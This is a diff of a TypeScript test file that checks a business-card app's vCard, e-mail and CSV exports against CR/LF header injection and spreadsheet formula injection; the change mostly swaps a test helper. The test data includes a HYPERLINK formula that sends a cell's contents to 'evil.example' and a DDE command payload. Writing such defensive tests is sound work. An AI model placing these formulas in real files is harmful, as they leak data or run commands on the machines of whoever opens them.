@@ -4,7 +4,7 @@ import { cards } from '#server/db/schema';
 import { CARD_CONFIGURATION_FIELDS } from '#shared/schemas/cards';
 import { createTestApp, type TestApp } from '../support/test-app';
 import { databaseKinds } from '../support/test-database';
-import { createOwner, freshIp, send, storeMessage } from './helpers';
+import { freshIp, send, storeMessage } from './helpers';
 
 // The three export channels: the vCard file, the owner's e-mail and the CSV of messages.
 // (XSS in pages and script URLs are in injection.test.ts.)
@@ -98,14 +98,14 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
   };
 
   it('keeps CR/LF sent to any configuration field from adding a vCard line', async () => {
-    const owner = await createOwner(t);
-    const url = `/api/cards/${owner.cardId}/configuration`;
+    const owner = await t.subscribedOwner({ remoteAddress: freshIp() });
+    const url = `/api/cards/${owner.card.id}/configuration`;
     for (const field of CARD_CONFIGURATION_FIELDS) {
       for (const nl of LINE_BREAKS) {
         const payload = { [field]: vcardInjection(field, nl) };
         const saved = await send(t, { method: 'PUT', url, payload }, owner.headers);
         expect(saved.statusCode, `${field}: ${saved.body}`).toBeLessThan(500);
-        expectOnlyOwnLines(await download(owner.cardUuid));
+        expectOnlyOwnLines(await download(owner.card.uuid));
         if (saved.statusCode === 200) {
           await send(t, { method: 'PUT', url, payload: { [field]: '' } }, owner.headers);
         }
@@ -114,14 +114,14 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
   });
 
   it('keeps CR/LF already stored in every field (validation bypassed) inside its value', async () => {
-    const owner = await createOwner(t);
+    const owner = await t.subscribedOwner({ remoteAddress: freshIp() });
     for (const nl of LINE_BREAKS) {
       const values = Object.fromEntries(
         CARD_CONFIGURATION_FIELDS.map((field) => [field, vcardInjection(field, nl)]),
       );
       const [card] = await t.deps.database.db
         .insert(cards)
-        .values({ ownerId: owner.id, shopifyProductTitle: 'Metal', ...values })
+        .values({ ownerId: owner.user.id, shopifyProductTitle: 'Metal', ...values })
         .returning({ uuid: cards.uuid });
       const body = await download(card!.uuid);
       expectOnlyOwnLines(body);
@@ -133,7 +133,7 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
   });
 
   it("keeps a visitor's CR/LF out of the owner's mail headers", async () => {
-    const owner = await createOwner(t);
+    const owner = await t.subscribedOwner({ remoteAddress: freshIp() });
     const visitor = {
       name: 'Eve',
       email: 'eve@visitor.example',
@@ -159,14 +159,14 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
     for (const attempt of attempts) {
       const response = await t.app.inject({
         method: 'POST',
-        url: `/api/card-profiles/public/${owner.cardUuid}/send-message`,
+        url: `/api/card-profiles/public/${owner.card.uuid}/send-message`,
         payload: { ...visitor, ...attempt },
         remoteAddress: freshIp(),
       });
       expect(response.statusCode, JSON.stringify(attempt)).toBeLessThan(500);
     }
     await t.deps.jobs.runOnce();
-    const mails = t.mailbox.sent.filter((mail) => mail.to === owner.email);
+    const mails = t.mailbox.sent.filter((mail) => mail.to === owner.user.email);
     expect(mails.some((mail) => mail.subject === 'New message from Eve via Catalyst Connect')).toBe(
       true,
     );
@@ -192,7 +192,10 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
 
   it('neutralises spreadsheet formulas in every cell of the messages CSV', async () => {
     const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
-    const owner = await createOwner(t, { card: { firstName: formula, lastName: null } });
+    const owner = await t.subscribedOwner({
+      card: { firstName: formula, lastName: null },
+      remoteAddress: freshIp(),
+    });
     const hostile = [
       formula,
       "=cmd|' /C calc'!A0",
@@ -206,12 +209,12 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
     ];
     for (const [i, value] of hostile.entries()) {
       const text = (field: number) => (i + field) % hostile.length;
-      await storeMessage(t, owner.cardId, {
+      await storeMessage(t, owner.card.id, {
         name: hostile[text(0)]!,
         email: hostile[text(1)]!,
         phone: hostile[text(2)]!,
         message: value,
-        // The lead's own fields (issue 32) are cells too.
+        // The lead's own fields (docs/product.md#messages) are cells too.
         company: hostile[text(3)]!,
         title: hostile[text(4)]!,
         note: hostile[text(5)]!,
@@ -222,7 +225,7 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
     // And one through the form, as a visitor would send it.
     const sent = await t.app.inject({
       method: 'POST',
-      url: `/api/card-profiles/public/${owner.cardUuid}/send-message`,
+      url: `/api/card-profiles/public/${owner.card.uuid}/send-message`,
       payload: { name: 'Eve', email: '+1@visitor.example', phone: '+1 555', message: '=1+1' },
       remoteAddress: freshIp(),
     });
@@ -237,7 +240,7 @@ describe.each(databaseKinds)('injection into exports on %s', (kind) => {
     const rows = parseCsv(response.body.replace(/^\uFEFF/, ''));
     expect(rows).toHaveLength(hostile.length + 2);
     // Received, Card, Name, Email, Phone, Company, Title, Message, Status, Note, Consent,
-    // Consented at, Source, Read (issue 32).
+    // Consented at, Source, Read (docs/product.md#messages).
     for (const row of rows) {
       expect(row).toHaveLength(14);
       for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
